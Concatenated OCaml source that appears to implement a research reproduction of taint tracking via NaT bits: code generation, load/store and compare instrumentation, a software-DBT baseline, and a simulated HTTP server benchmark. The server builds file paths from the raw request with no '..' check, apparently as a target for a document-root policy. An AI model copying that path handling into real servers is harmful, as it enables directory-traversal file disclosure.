      List.iteri (fun i t -> emit ctx (Instr.Mov (Reg.sysarg i, t))) temps;
      List.iter (fun t -> free_temp ctx t) (List.rev temps);
      emit ctx (Instr.Movi (Reg.sysnum, Int64.of_int sysno));
      emit ctx Instr.Syscall;
      emit ctx (Instr.Mov (dst, Reg.ret))
  | None ->
      if List.length args > Reg.max_args then
        err "call to %S with more than %d arguments in %S" f Reg.max_args ctx.fname;
      let base = ctx.temp_sp in
      let temps =
        List.map
          (fun a ->
            let t = alloc_temp ctx in
            emit_expr ctx a t;
            t)
          args
      in
      let saved = live_regs ctx ~up_to:base in
      save_regs ctx saved;
      List.iteri (fun i t -> emit ctx (Instr.Mov (Reg.arg i, t))) temps;
      List.iter (fun t -> free_temp ctx t) (List.rev temps);
      emit ctx (Instr.Call f);
      restore_regs ctx saved;
      emit ctx (Instr.Mov (dst, Reg.ret))

(* Branch on a condition: leaves pt = condition, pf = its negation.
   Comparisons at the top of the condition compile directly to [cmp]. *)
let emit_cond ctx (e : Ir.expr) =
  match e with
  | Ir.Binop (op, a, b) when cmp_cond_of op <> None ->
      let cond = Option.get (cmp_cond_of op) in
      with_temp ctx (fun t1 ->
          emit_expr ctx a t1;
          with_temp ctx (fun t2 ->
              emit_expr ctx b t2;
              emit ctx (Instr.Cmp { cond; pt; pf; src1 = t1; src2 = Instr.R t2; taint_aware = false })))
  | _ ->
      with_temp ctx (fun t ->
          emit_expr ctx e t;
          emit ctx
            (Instr.Cmp { cond = Cond.Ne; pt; pf; src1 = t; src2 = Instr.Imm 0L; taint_aware = false }))

let rec emit_stmt ctx (s : Ir.stmt) =
  match s with
  | Ir.Assign (x, e) -> (
      match Hashtbl.find_opt ctx.var_reg x with
      | Some home ->
          with_temp ctx (fun t ->
              emit_expr ctx e t;
              emit ctx (Instr.Mov (home, t)))
      | None -> (
          match Hashtbl.find_opt ctx.var_slot x with
          | Some off ->
              with_temp ctx (fun t ->
                  emit_expr ctx e t;
                  let a = frame_addr ctx off in
                  emit ctx (Instr.St { width = Instr.W8; addr = a; src = t; spill = false }))
          | None -> err "assignment to unknown scalar %S in %S" x ctx.fname))
  | Ir.Store (w, a, v) ->
      with_temp ctx (fun t1 ->
          emit_expr ctx a t1;
          with_temp ctx (fun t2 ->
              emit_expr ctx v t2;
              emit ctx (Instr.St { width = width_of w; addr = t1; src = t2; spill = false })))
  | Ir.If (c, bt, bf) ->
      let l_else = fresh_label ctx "else" in
      let l_end = fresh_label ctx "endif" in
      emit_cond ctx c;
      emitq ctx pf (Instr.Br (if bf = [] then l_end else l_else));
      List.iter (emit_stmt ctx) bt;
      if bf <> [] then begin
        emit ctx (Instr.Br l_end);
        place_label ctx l_else;
        List.iter (emit_stmt ctx) bf
      end;
      place_label ctx l_end
  | Ir.While (c, b) ->
      let l_cont = fresh_label ctx "cont" in
      let l_break = fresh_label ctx "break" in
      place_label ctx l_cont;
      emit_cond ctx c;
      emitq ctx pf (Instr.Br l_break);
      ctx.loops <- (l_break, l_cont) :: ctx.loops;
      List.iter (emit_stmt ctx) b;
      ctx.loops <- List.tl ctx.loops;
      emit ctx (Instr.Br l_cont);
      place_label ctx l_break
  | Ir.Return (Some e) ->
      with_temp ctx (fun t ->
          emit_expr ctx e t;
          emit ctx (Instr.Mov (Reg.ret, t)));
      emit ctx (Instr.Br ctx.epilogue)
  | Ir.Return None ->
      emit ctx (Instr.Movi (Reg.ret, 0L));
      emit ctx (Instr.Br ctx.epilogue)
  | Ir.Expr e -> with_temp ctx (fun t -> emit_expr ctx e t)
  | Ir.Break -> (
      match ctx.loops with
      | (l_break, _) :: _ -> emit ctx (Instr.Br l_break)
      | [] -> err "break outside loop in %S" ctx.fname)
  | Ir.Continue -> (
      match ctx.loops with
      | (_, l_cont) :: _ -> emit ctx (Instr.Br l_cont)
      | [] -> err "continue outside loop in %S" ctx.fname)
  | Ir.Guard (e, handler) ->
      (* §3.3.3: a chk.s on the value redirects to an out-of-line
         recovery block when the tag is set; the block is emitted after
         the function body, like real speculation recovery code *)
      let l_rec = fresh_label ctx "guard" in
      let l_cont = fresh_label ctx "guarded" in
      with_temp ctx (fun t ->
          emit_expr ctx e t;
          emit ctx (Instr.Chk_s { src = t; recovery = l_rec }));
      place_label ctx l_cont;
      ctx.recoveries <- (l_rec, l_cont, handler, ctx.loops) :: ctx.recoveries

let align16 n = (n + 15) land lnot 15

let gen_func dataseg (f : Ir.func) =
  if List.length f.params > Reg.max_args then
    err "function %S has %d parameters; at most %d fit the argument registers"
      f.fname (List.length f.params) Reg.max_args;
  let var_reg = Hashtbl.create 16 in
  let var_slot = Hashtbl.create 4 in
  let arr_off = Hashtbl.create 4 in
  (* scalar homes: params first, then scalar locals; overflow spills *)
  let scalars =
    f.params @ List.filter_map (fun (l : Ir.local) -> if l.array = None then Some l.lname else None) f.locals
  in
  let next_off = ref save_area in
  List.iteri
    (fun i name ->
      if i < var_reg_count then Hashtbl.add var_reg name (first_var_reg + i)
      else begin
        Hashtbl.add var_slot name !next_off;
        next_off := !next_off + 8
      end)
    scalars;
  List.iter
    (fun (l : Ir.local) ->
      match l.array with
      | Some n ->
          Hashtbl.add arr_off l.lname !next_off;
          next_off := !next_off + ((n + 7) land lnot 7)
      | None -> ())
    f.locals;
  let frame_size = align16 !next_off in
  let ctx =
    {
      dataseg;
      fname = f.fname;
      var_reg;
      var_slot;
      arr_off;
      frame_size;
      epilogue = f.fname ^ "$epilogue";
      temp_sp = first_temp_reg;
      items = [];
      loops = [];
      labels = 0;
      recoveries = [];
    }
  in
  place_label ctx f.fname;
  emit ctx (Instr.Arith (Instr.Add, Reg.sp, Reg.sp, Instr.Imm (Int64.of_int (-frame_size))));
  List.iteri
    (fun i p ->
      match Hashtbl.find_opt var_reg p with
      | Some home -> emit ctx (Instr.Mov (home, Reg.arg i))
      | None ->
          let off = Hashtbl.find var_slot p in
          let a = frame_addr ctx off in
          emit ctx (Instr.St { width = Instr.W8; addr = a; src = Reg.arg i; spill = false }))
    f.params;
  List.iter (emit_stmt ctx) f.body;
  emit ctx (Instr.Movi (Reg.ret, 0L));
  place_label ctx ctx.epilogue;
  emit ctx (Instr.Arith (Instr.Add, Reg.sp, Reg.sp, Instr.Imm (Int64.of_int frame_size)));
  emit ctx Instr.Ret;
  (* guard recovery blocks, out of line; handlers may contain further
     guards, so drain until none are pending *)
  let rec drain () =
    match ctx.recoveries with
    | [] -> ()
    | (l_rec, l_cont, handler, loops) :: rest ->
        ctx.recoveries <- rest;
        let saved_loops = ctx.loops in
        ctx.loops <- loops;
        place_label ctx l_rec;
        List.iter (emit_stmt ctx) handler;
        emit ctx (Instr.Br l_cont);
        ctx.loops <- saved_loops;
        drain ()
  in
  drain ();
  List.rev ctx.items

let gen_start () =
  [
    Program.Label "_start";
    Program.I (Instr.mk (Instr.Movi (Reg.sp, Layout.stack_top)));
    Program.I (Instr.mk (Instr.Call "main"));
    Program.I (Instr.mk Instr.Halt);
  ]
