open Shift_isa
module Gran = Shift_mem.Granularity

(* instrumentation temporaries, reserved by the register convention *)
let t1 = 121
let t2 = 122
let t3 = 123
let t4 = 124
let t5 = 125
let t6 = 120 (* stripped-address register for the Propagate pointer policy *)

(* instrumentation predicates *)
let p6 = 6
let p7 = 7
let p8 = 8 (* address-tainted, under the Propagate pointer policy *)
let p9 = 9

let invalid_address = Int64.shift_left 1L 45 (* an unimplemented bit *)

let ins ?(qp = Pred.p0) prov op = Program.I (Instr.mk ~qp ~prov op)

(* tag-address computation (Figure 4): fold the region number down and
   combine it with the shifted implemented offset bits; leaves the tag
   address in [t1], clobbers [t2].  [r29] holds the implemented-bits
   mask. *)
let tag_addr_code ~prov ~gran ra =
  let tag_shift = match gran with Gran.Byte -> 3 | Gran.Word -> 6 in
  [
    ins prov (Instr.Arith (Instr.Shr, t2, ra, Instr.Imm (Int64.of_int Shift_mem.Addr.region_shift)));
    ins prov (Instr.Arith (Instr.Shl, t2, t2, Instr.Imm (Int64.of_int (Shift_mem.Addr.impl_bits - 3))));
    ins prov (Instr.Arith (Instr.And, t1, ra, Instr.R Reg.impl_mask));
    ins prov (Instr.Arith (Instr.Shr, t1, t1, Instr.Imm (Int64.of_int tag_shift)));
    ins prov (Instr.Arith (Instr.Or, t1, t1, Instr.R t2));
  ]

(* leaves the access's tag mask in [t5], using [t4].  Word granularity:
   a single bit.  Byte granularity: [width] bits starting at the byte's
   bit position — the shifted mask may extend into the next bitmap
   byte, which the multi-byte sequences handle explicitly.  Computing a
   byte-level tag is more complex than a word-level one, the driver of
   the paper's byte-vs-word gap (§6.4). *)
let tag_mask_code ~prov ~gran ~width ra =
  match gran with
  | Gran.Word ->
      [
        ins prov (Instr.Extr { dst = t4; src = ra; pos = 3; len = 3 });
        ins prov (Instr.Movi (t5, 1L));
        ins prov (Instr.Arith (Instr.Shl, t5, t5, Instr.R t4));
      ]
  | Gran.Byte ->
      let bits = Int64.of_int ((1 lsl Instr.bytes_of_width width) - 1) in
      [
        ins prov (Instr.Arith (Instr.And, t4, ra, Instr.Imm 7L));
        ins prov (Instr.Movi (t5, bits));
        ins prov (Instr.Arith (Instr.Shl, t5, t5, Instr.R t4));
      ]

(* Byte granularity emits one uniform sequence for every access width:
   the shifted mask may straddle two bitmap bytes, so a second
   check/update for the high half of the mask is always appended (for a
   one-byte access its mask is a single bit and the second half is a
   dynamic no-op, but the code is still there — the reason byte-level
   tracking needs more code and runs slower than word-level, §6.1,
   §6.4, Table 3). *)
let byte_straddles ~gran ~width:_ = gran = Gran.Byte

(* Ablation knobs for the compiler-optimization benches (DESIGN.md):
   [relax_all_compares] disables the static taint analysis and relaxes
   every compare, the unoptimized translation the paper's §4.4 starts
   from; [skip_save_restore] can be turned off to also instrument the
   compiler's own register save/restore spill traffic. *)
let relax_all_compares = ref false
let skip_save_restore = ref true

type nat_source_strategy = Per_function | Per_use

(* §4.4's quantified observation: regenerating the NaT source at every
   use (instead of keeping it in a reserved register per function)
   "degrades the performance by a factor of 3X".  [Per_use] reproduces
   that costly strategy for the ablation bench. *)
let nat_source_strategy = ref Per_function

type pointer_policy = Fault_on_tainted_pointer | Propagate_pointer_taint

(* §3.3.2 "customizable policy for pointers": by default a tainted
   address faults at its first use (policies L1/L2).  Under
   [Propagate_pointer_taint] the instrumentation strips the address
   tag before the access and folds it into the loaded value / stored
   tag instead, so tainted pointers dereference legally but their
   results stay tainted. *)
let pointer_policy = ref Fault_on_tainted_pointer

(* returns (prelude, effective address register).  Under Propagate the
   prelude records the address tag in p8/p9 and leaves a stripped copy
   of the address in t6. *)
let pointer_prelude ~prov ~enh ra =
  match !pointer_policy with
  | Fault_on_tainted_pointer -> ([], ra)
  | Propagate_pointer_taint ->
      let strip =
        if enh.Mode.set_clear_nat then
          [ ins prov (Instr.Mov (t6, ra)); ins prov (Instr.Clrnat t6) ]
        else
          [
            ins prov (Instr.St { width = Instr.W8; addr = Reg.scratch_slot; src = ra; spill = true });
            ins prov (Instr.Ld { width = Instr.W8; dst = t6; addr = Reg.scratch_slot; spec = false; fill = false });
          ]
      in
      (ins prov (Instr.Tnat { pt = p8; pf = p9; src = ra }) :: strip, t6)

(* Word-level tracking of a sub-word store must not clear the word's
   tag: the other bytes of the word may still hold tainted data (e.g.
   the NUL terminator of a copied string would otherwise scrub the
   whole string's tag).  Setting is always safe; clearing only on
   full-word stores.  Byte granularity clears precisely. *)
let store_may_clear ~gran ~width =
  match gran with Gran.Byte -> true | Gran.Word -> width = Instr.W8

(* Figure 5, load: consult the bitmap, do the real load, conditionally
   taint the target. *)
let instrument_load ~gran ~enh (i : Instr.t) ~width ~dst ~addr =
  let prelude, addr = pointer_prelude ~prov:Prov.Ld_compute ~enh addr in
  let i =
    match i.op with
    | Instr.Ld l -> { i with op = Instr.Ld { l with addr } }
    | _ -> i
  in
  prelude
  @ tag_addr_code ~prov:Prov.Ld_compute ~gran addr
  @ [ ins Prov.Ld_mem (Instr.Ld { width = Instr.W1; dst = t3; addr = t1; spec = false; fill = false }) ]
  @ tag_mask_code ~prov:Prov.Ld_compute ~gran ~width addr
  @ [ ins Prov.Ld_compute (Instr.Arith (Instr.And, t3, t3, Instr.R t5)) ]
  @ (if byte_straddles ~gran ~width then
       [
         ins Prov.Ld_compute (Instr.Arith (Instr.Shr, t5, t5, Instr.Imm 8L));
         ins Prov.Ld_compute (Instr.Arith (Instr.Add, t1, t1, Instr.Imm 1L));
         ins Prov.Ld_mem (Instr.Ld { width = Instr.W1; dst = t4; addr = t1; spec = false; fill = false });
         ins Prov.Ld_compute (Instr.Arith (Instr.And, t4, t4, Instr.R t5));
         ins Prov.Ld_compute (Instr.Arith (Instr.Or, t3, t3, Instr.R t4));
       ]
     else [])
  @ [
      ins Prov.Ld_compute
        (Instr.Cmp { cond = Cond.Ne; pt = p6; pf = p7; src1 = t3; src2 = Instr.Imm 0L; taint_aware = false });
      Program.I i;
    ]
  @ (if enh.Mode.set_clear_nat then [ ins ~qp:p6 Prov.Ld_compute (Instr.Setnat dst) ]
     else
       (match !nat_source_strategy with
       | Per_function -> []
       | Per_use ->
           (* the §4.4 worst case: conjure a fresh NaT source here *)
           [
             ins Prov.Nat_gen (Instr.Movi (Reg.nat_src, invalid_address));
             ins Prov.Nat_gen
               (Instr.Ld { width = Instr.W8; dst = Reg.nat_src; addr = Reg.nat_src; spec = true; fill = false });
           ])
       @ [ ins ~qp:p6 Prov.Ld_compute (Instr.Arith (Instr.Add, dst, dst, Instr.R Reg.nat_src)) ])
  @
  (* Propagate pointer policy: a tainted address taints the value *)
  match !pointer_policy with
  | Fault_on_tainted_pointer -> []
  | Propagate_pointer_taint ->
      [
        (if enh.Mode.set_clear_nat then ins ~qp:p8 Prov.Ld_compute (Instr.Setnat dst)
         else ins ~qp:p8 Prov.Ld_compute (Instr.Arith (Instr.Add, dst, dst, Instr.R Reg.nat_src)));
      ]

(* Figure 5, store: test the source NaT, read-modify-write the bitmap,
   do the real store as a spill so a tainted source does not fault. *)
let instrument_store ~gran ~enh (i : Instr.t) ~width ~addr ~src ~spill:_ =
  let prelude, addr = pointer_prelude ~prov:Prov.St_compute ~enh addr in
  let real_store =
    match i.op with
    | Instr.St s -> { i with op = Instr.St { s with addr; spill = true } }
    | _ -> assert false
  in
  let rmw =
    [ ins ~qp:p6 Prov.St_compute (Instr.Arith (Instr.Or, t3, t3, Instr.R t5)) ]
    @ (if store_may_clear ~gran ~width then
         [ ins ~qp:p7 Prov.St_compute (Instr.Arith (Instr.Andcm, t3, t3, Instr.R t5)) ]
       else [])
    @
    (* Propagate pointer policy: a store through a tainted pointer
       taints the stored-to location regardless of the source *)
    match !pointer_policy with
    | Fault_on_tainted_pointer -> []
    | Propagate_pointer_taint ->
        [ ins ~qp:p8 Prov.St_compute (Instr.Arith (Instr.Or, t3, t3, Instr.R t5)) ]
  in
  prelude
  @ [ ins Prov.St_compute (Instr.Tnat { pt = p6; pf = p7; src }) ]
  @ tag_addr_code ~prov:Prov.St_compute ~gran addr
  @ [ ins Prov.St_mem (Instr.Ld { width = Instr.W1; dst = t3; addr = t1; spec = false; fill = false }) ]
  @ tag_mask_code ~prov:Prov.St_compute ~gran ~width addr
  @ rmw
  @ [ ins Prov.St_mem (Instr.St { width = Instr.W1; addr = t1; src = t3; spill = false }) ]
  @ (if byte_straddles ~gran ~width then
       [
         ins Prov.St_compute (Instr.Arith (Instr.Shr, t5, t5, Instr.Imm 8L));
         ins Prov.St_compute (Instr.Arith (Instr.Add, t1, t1, Instr.Imm 1L));
         ins Prov.St_mem (Instr.Ld { width = Instr.W1; dst = t3; addr = t1; spec = false; fill = false });
       ]
       @ rmw
       @ [ ins Prov.St_mem (Instr.St { width = Instr.W1; addr = t1; src = t3; spill = false }) ]
     else [])
  @ [ Program.I real_store ]

(* NaT-stripping: copy a register's value into a scratch register with a
   clear NaT bit.  Without the set/clear enhancement this takes a
   spill/fill round trip through the scratch memory slot (paper §4.1);
   with it, a move plus [clrnat]. *)
let strip_code ~enh r ~into =
  if enh.Mode.set_clear_nat then
    [
      ins Prov.Cmp_relax (Instr.Mov (into, r));
      ins Prov.Cmp_relax (Instr.Clrnat into);
    ]
  else
    [
      ins Prov.Cmp_relax (Instr.St { width = Instr.W8; addr = Reg.scratch_slot; src = r; spill = true });
      ins Prov.Cmp_relax (Instr.Ld { width = Instr.W8; dst = into; addr = Reg.scratch_slot; spec = false; fill = false });
    ]

(* Compare relaxation (paper §4.1 "Relaxing NaT-sensitive
   Instructions"): a baseline cmp with a NaT operand clears both
   predicates, breaking programs that legitimately compare tainted data,
   so the operands are stripped into scratch registers first. *)
let instrument_cmp ~enh (i : Instr.t) ~cond ~cpt ~cpf ~src1 ~src2 =
  if enh.Mode.nat_aware_cmp then
    [
      Program.I
        { i with op = Instr.Cmp { cond; pt = cpt; pf = cpf; src1; src2; taint_aware = true } };
    ]
  else
    let strip1 = strip_code ~enh src1 ~into:t1 in
    let strip2, src2 =
      match src2 with
      | Instr.Imm _ as o -> ([], o)
      | Instr.R r -> (strip_code ~enh r ~into:t2, Instr.R t2)
    in
    strip1 @ strip2
    @ [
        Program.I
          { i with op = Instr.Cmp { cond; pt = cpt; pf = cpf; src1 = t1; src2; taint_aware = false } };
      ]

let natsrc_gen =
  [
    ins Prov.Nat_gen (Instr.Movi (Reg.nat_src, invalid_address));
    ins Prov.Nat_gen
      (Instr.Ld { width = Instr.W8; dst = Reg.nat_src; addr = Reg.nat_src; spec = true; fill = false });
  ]

let start_setup ~scratch_addr =
  [
    ins Prov.Nat_gen (Instr.Movi (Reg.impl_mask, Shift_mem.Addr.impl_mask));
    ins Prov.Nat_gen (Instr.Movi (Reg.scratch_slot, scratch_addr));
  ]

(* ------------------------------------------------------------------ *)
(* Software-DBT baseline (LIFT-like): register tags live in a shadow
   table at [shadow_base + regno]; every instruction propagates tags
   explicitly, and address registers are checked inline.               *)

let sh = Prov.Shadow

let shadow_read r ~into =
  [
    ins sh (Instr.Arith (Instr.Add, t1, Reg.scratch_slot, Instr.Imm (Int64.of_int r)));
    ins sh (Instr.Ld { width = Instr.W1; dst = into; addr = t1; spec = false; fill = false });
  ]

let shadow_write r ~from =
  [
    ins sh (Instr.Arith (Instr.Add, t1, Reg.scratch_slot, Instr.Imm (Int64.of_int r)));
    ins sh (Instr.St { width = Instr.W1; addr = t1; src = from; spill = false });
  ]

let shadow_check_addr r =
  shadow_read r ~into:t3
  @ [
      ins sh (Instr.Cmp { cond = Cond.Ne; pt = p6; pf = p7; src1 = t3; src2 = Instr.Imm 0L; taint_aware = false });
      ins ~qp:p6 sh (Instr.Br "__dbt_alert");
    ]

let dbt_instrument ~gran (i : Instr.t) =
  match i.op with
  | Instr.Movi (d, _) | Instr.Lea (d, _) ->
      (Program.I i :: ins sh (Instr.Movi (t3, 0L)) :: shadow_write d ~from:t3)
  | Instr.Mov (d, s) -> (Program.I i :: shadow_read s ~into:t3) @ shadow_write d ~from:t3
  | Instr.Arith (_, d, s1, o) ->
      let read2, combine =
        match o with
        | Instr.R s2 ->
            ( shadow_read s2 ~into:t4,
              [ ins sh (Instr.Arith (Instr.Or, t3, t3, Instr.R t4)) ] )
        | Instr.Imm _ -> ([], [])
      in
      (Program.I i :: shadow_read s1 ~into:t3) @ read2 @ combine @ shadow_write d ~from:t3
  | Instr.Ld { width; dst; addr; _ } ->
      shadow_check_addr addr
      @ tag_addr_code ~prov:sh ~gran addr
      @ [ ins sh (Instr.Ld { width = Instr.W1; dst = t3; addr = t1; spec = false; fill = false }) ]
      @ tag_mask_code ~prov:sh ~gran ~width addr
      @ [
          ins sh (Instr.Arith (Instr.And, t3, t3, Instr.R t5));
          ins sh (Instr.Cmp { cond = Cond.Ne; pt = p6; pf = p7; src1 = t3; src2 = Instr.Imm 0L; taint_aware = false });
          ins sh (Instr.Movi (t3, 0L));
          ins ~qp:p6 sh (Instr.Movi (t3, 1L));
          Program.I i;
        ]
      @ shadow_write dst ~from:t3
  | Instr.St { width; addr; src; _ } ->
      shadow_check_addr addr
      @ shadow_read src ~into:t3
      @ [
          ins sh (Instr.Cmp { cond = Cond.Ne; pt = p6; pf = p7; src1 = t3; src2 = Instr.Imm 0L; taint_aware = false });
        ]
      @ tag_addr_code ~prov:sh ~gran addr
      @ [ ins sh (Instr.Ld { width = Instr.W1; dst = t3; addr = t1; spec = false; fill = false }) ]
      @ tag_mask_code ~prov:sh ~gran ~width addr
      @ [ ins ~qp:p6 sh (Instr.Arith (Instr.Or, t3, t3, Instr.R t5)) ]
      @ (if store_may_clear ~gran ~width then
           [ ins ~qp:p7 sh (Instr.Arith (Instr.Andcm, t3, t3, Instr.R t5)) ]
         else [])
      @ [
          ins sh (Instr.St { width = Instr.W1; addr = t1; src = t3; spill = false });
          Program.I i;
        ]
  | Instr.Br_reg r | Instr.Call_reg r -> shadow_check_addr r @ [ Program.I i ]
  | Instr.Clrnat r ->
      (* the untaint builtin under software DBT: clear the shadow tag *)
      ins sh (Instr.Movi (t3, 0L)) :: shadow_write r ~from:t3
  | Instr.Setnat r ->
      (* configured taint source under software DBT: set the shadow tag *)
      ins sh (Instr.Movi (t3, 1L)) :: shadow_write r ~from:t3
  | _ -> [ Program.I i ]

(* ------------------------------------------------------------------ *)

let shift_instrument ~gran ~enh ~analysis ~index (i : Instr.t) =
  let tainted r =
    !relax_all_compares || Taint_analysis.may_be_tainted analysis ~index r
  in
  match i.op with
  | Instr.Clrnat r ->
      (* the untaint builtin: without the set/clear enhancement the tag
         is scrubbed with a spill/fill round trip (paper §4.1) *)
      if enh.Mode.set_clear_nat then
        [ ins Prov.Nat_gen (Instr.Clrnat r) ]
      else
        [
          ins Prov.Nat_gen (Instr.St { width = Instr.W8; addr = Reg.scratch_slot; src = r; spill = true });
          ins Prov.Nat_gen (Instr.Ld { width = Instr.W8; dst = r; addr = Reg.scratch_slot; spec = false; fill = false });
        ]
  | Instr.Setnat r ->
      (* a configured taint source (function return values, §3.3.1):
         without the enhancement the tag comes from the NaT source
         register *)
      if enh.Mode.set_clear_nat then [ ins Prov.Nat_gen (Instr.Setnat r) ]
      else [ ins Prov.Nat_gen (Instr.Arith (Instr.Add, r, r, Instr.R Reg.nat_src)) ]
  | (Instr.Ld { fill = true; _ } | Instr.St { spill = true; _ }) when !skip_save_restore ->
      (* the compiler's own register save/restore traffic: the NaT bit
         rides through UNAT and the save slots are never read by
         anything else, so the bitmap needs no update (the compiler
         generated these accesses, it knows their semantics) *)
      [ Program.I i ]
  | Instr.Ld { width; dst; addr; spec; fill = _ } when not spec ->
      assert (i.qp = Pred.p0);
      instrument_load ~gran ~enh i ~width ~dst ~addr
  | Instr.St { width; addr; src; spill } ->
      assert (i.qp = Pred.p0);
      instrument_store ~gran ~enh i ~width ~addr ~src ~spill
  | Instr.Cmp { cond; pt; pf; src1; src2; taint_aware = false }
    when tainted src1 || (match src2 with Instr.R r -> tainted r | Instr.Imm _ -> false) ->
      (* only compares whose operands may carry a tag need relaxing;
         the analysis proves counters and other compiler temporaries
         clean (§3.3.2) *)
      assert (i.qp = Pred.p0);
      instrument_cmp ~enh i ~cond ~cpt:pt ~cpf:pf ~src1 ~src2
  | _ -> [ Program.I i ]

let instrument ~mode ?(keep_taint_markers = false) ~scratch_addr ~is_start items =
  match mode with
  | Mode.Uninstrumented ->
      (* taint markers have no meaning (and a stray NaT would fault), so
         they are dropped — unless a decoupled tag backend consumes them
         as directives, in which case they stay and the machine skips
         the actual NaT write *)
      if keep_taint_markers then items
      else
        List.filter
          (function
            | Program.I { Instr.op = Instr.Setnat _ | Instr.Clrnat _; prov = Prov.Orig; _ } ->
                false
            | _ -> true)
          items
  | Mode.Shift { granularity; enh } ->
      let analysis = Taint_analysis.analyse items in
      let index = ref (-1) in
      let transformed =
        List.concat_map
          (fun item ->
            match item with
            | Program.Label _ -> [ item ]
            | Program.I i when i.Instr.prov = Prov.Orig ->
                incr index;
                shift_instrument ~gran:granularity ~enh ~analysis ~index:!index i
            | Program.I _ ->
                incr index;
                [ item ])
          items
      in
      let entry_code =
        (if is_start then start_setup ~scratch_addr else [])
        @ (if enh.Mode.set_clear_nat then [] else natsrc_gen)
      in
      (match transformed with
      | Program.Label l :: rest -> (Program.Label l :: entry_code) @ rest
      | rest -> entry_code @ rest)
  | Mode.Software_dbt { granularity } ->
      let transformed =
        List.concat_map
          (fun item ->
            match item with
            | Program.Label _ -> [ item ]
            | Program.I i when i.Instr.prov = Prov.Orig -> dbt_instrument ~gran:granularity i
            | Program.I _ -> [ item ])
          items
      in
      let entry_code =
        if is_start then
          [
            ins sh (Instr.Movi (Reg.impl_mask, Shift_mem.Addr.impl_mask));
            ins sh (Instr.Movi (Reg.scratch_slot, Layout.shadow_base));
          ]
        else []
      in
      (match transformed with
      | Program.Label l :: rest -> (Program.Label l :: entry_code) @ rest
      | rest -> entry_code @ rest)

let support_units ~mode =
  match mode with
  | Mode.Software_dbt _ ->
      [
        Program.Label "__dbt_alert";
        ins sh (Instr.Movi (Reg.sysnum, Int64.of_int Sysno.dbt_alert));
        ins sh Instr.Syscall;
        ins sh Instr.Halt;
      ]
  | Mode.Uninstrumented | Mode.Shift _ -> []
