open Build
open Build.Infix

let document_root = "www"

(* the request-handling core, shared by the single-process server and
   the worker-process personality below *)
let server_funcs =
  [
    (* copy the request path ("GET /name ...") into out; returns
       its length or -1 on a malformed request *)
    func "parse_path" ~params:[ "req"; "out" ] ~locals:[ scalar "k"; scalar "ch" ]
          [
            when_ (call "strncmp" [ v "req"; str "GET /"; i 5 ] <>: i 0) [ ret (i 0 -: i 1) ];
            set "k" (i 0);
            while_ (v "k" <: i 120)
              [
                set "ch" (load8 (v "req" +: i 5 +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code ' '))) [ Ir.Break ];
                store8 (v "out" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "out" +: v "k") (i 0);
            ret (v "k");
          ];
        func "serve_one" ~params:[ "sock" ]
          ~locals:
            [ array "req" 512; array "name" 128; array "path" 192; array "hdr" 128;
              scalar "n"; scalar "fd"; scalar "hlen" ]
          [
            set "n" (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            when_ (v "n" <=: i 0) [ ret (i 0) ];
            when_ (call "parse_path" [ v "req"; v "name" ] <: i 0) [ ret (i 0) ];
            Ir.Expr (call "strcpy" [ v "path"; str "www/" ]);
            Ir.Expr (call "strcat" [ v "path"; v "name" ]);
            set "fd" (call "sys_open" [ v "path" ]);
            when_ (v "fd" <: i 0)
              [
                Ir.Expr
                  (call "sys_send"
                     [ v "sock"; str "HTTP/1.0 404 Not Found\r\n\r\n"; i 26 ]);
                ret (i 404);
              ];
            set "hlen"
              (call "sprintf1"
                 [ v "hdr"; str "HTTP/1.0 200 OK\r\nServer: shift-httpd/%d\r\n\r\n"; i 1 ]);
            Ir.Expr (call "sys_send" [ v "sock"; v "hdr"; v "hlen" ]);
            Ir.Expr (call "sys_sendfile" [ v "sock"; v "fd"; i 1073741824 ]);
            Ir.Expr (call "sys_close" [ v "fd" ]);
            ret (i 200);
          ];
  ]

(* the accept loop: drain the shared pending-request queue until
   sys_accept reports it empty, then return the served count *)
let accept_loop =
  [
    set "served" (i 0);
    while_ (i 1)
      [
        set "sock" (call "sys_accept" []);
        when_ (v "sock" <: i 0) [ Ir.Break ];
        when_ (call "serve_one" [ v "sock" ] ==: i 200)
          [ set "served" (v "served" +: i 1) ];
        Ir.Expr (call "sys_close" [ v "sock" ]);
      ];
    ret (v "served");
  ]

let program =
  {
    Ir.globals = [];
    funcs =
      server_funcs
      @ [
          func "main" ~params:[] ~locals:[ scalar "sock"; scalar "served" ]
            accept_loop;
        ];
  }

(* ---------- the worker-process personality ---------- *)

(* The master forks [workers] children, each running the same accept
   loop; the pending-request queue lives in the shared World, so the
   forked workers drain it together the way processes inheriting a
   listening socket share the backlog.  A worker exits with its served
   count once accept reports the queue empty; the master reaps every
   worker and exits with the fleet's total. *)
let max_workers = 8

let worker_program ~workers =
  let w = max 1 (min workers max_workers) in
  {
    Ir.globals = [];
    funcs =
      server_funcs
      @ [
          func "worker" ~params:[] ~locals:[ scalar "sock"; scalar "served" ]
            accept_loop;
          func "main" ~params:[]
            ~locals:
              [ array "pids" (8 * w); scalar "off"; scalar "pid";
                scalar "total"; scalar "st" ]
            [
              set "off" (i 0);
              while_ (v "off" <: i (8 * w))
                [
                  set "pid" (call "sys_fork" []);
                  when_ (v "pid" ==: i 0) [ ret (call "worker" []) ];
                  store64 (v "pids" +: v "off") (v "pid");
                  set "off" (v "off" +: i 8);
                ];
              set "total" (i 0);
              set "off" (i 0);
              while_ (v "off" <: i (8 * w))
                [
                  set "st" (call "sys_wait" [ load64 (v "pids" +: v "off") ]);
                  when_ (v "st" >: i 0) [ set "total" (v "total" +: v "st") ];
                  set "off" (v "off" +: i 8);
                ];
              ret (v "total");
            ];
        ];
  }

let policy =
  { Shift_policy.Policy.default with Shift_policy.Policy.h2 = Some document_root }

(* a network server's syscalls are dominated by kernel crossings and
   wire time, not by the handful of user-space instructions around
   them *)
let io_cost =
  { Shift_os.World.per_call = 6000; per_byte = 2; sendfile_per_byte = 2 }

let rtt_cycles = 40_000

let file_name ~file_size = Printf.sprintf "file_%dk" (file_size / 1024)
let request_path ~file_size = file_name ~file_size

let setup ~file_size ~requests world =
  let body = Inputs.bytes ~seed:80 file_size in
  Shift_os.World.add_file world ~tainted:false
    (document_root ^ "/" ^ file_name ~file_size)
    body;
  for _ = 1 to requests do
    Shift_os.World.queue_request world
      (Printf.sprintf "GET /%s HTTP/1.0\r\nHost: bench\r\n\r\n" (file_name ~file_size))
  done

(* ---------- the host-side request driver ---------- *)

let default_slice = 100_000

